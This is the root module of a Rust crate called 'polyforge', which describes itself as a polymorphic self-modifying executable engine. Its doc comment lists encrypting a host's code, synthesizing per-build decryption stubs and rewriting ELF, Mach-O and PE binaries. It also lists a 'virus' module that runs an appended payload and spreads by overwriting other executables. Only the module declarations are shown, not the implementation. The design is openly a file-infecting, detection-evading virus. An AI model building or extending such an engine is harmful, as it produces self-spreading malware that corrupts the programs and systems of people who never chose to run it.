//! `polyforge`: a polymorphic self-modifying executable engine.
//!
//! Linked into a host program's build, this crate (a) encrypts the host's
//! own text section with a randomly chosen secret, (b) synthesizes a
//! per-build machine-code decryption stub, (c) rewrites the host binary
//! (ELF/Mach-O/PE) so the stub runs before the original entry point, and
//! (d) offers a [`virus`] wrapper that appends a second executable as
//! payload, executes it, and can propagate by copying the modified host
//! over other executables.
//!
//! See [`rng`], [`cipher`], [`emitter`], [`editor`], and [`engine`] for the
//! pieces that data flows through to build one stub; [`virus`] is the
//! optional propagation layer built on top.

pub mod cipher;
pub mod editor;
pub mod emitter;
pub mod engine;
pub mod error;
pub mod host;
pub mod rng;
pub mod virus;

pub use error::{Error, Result};
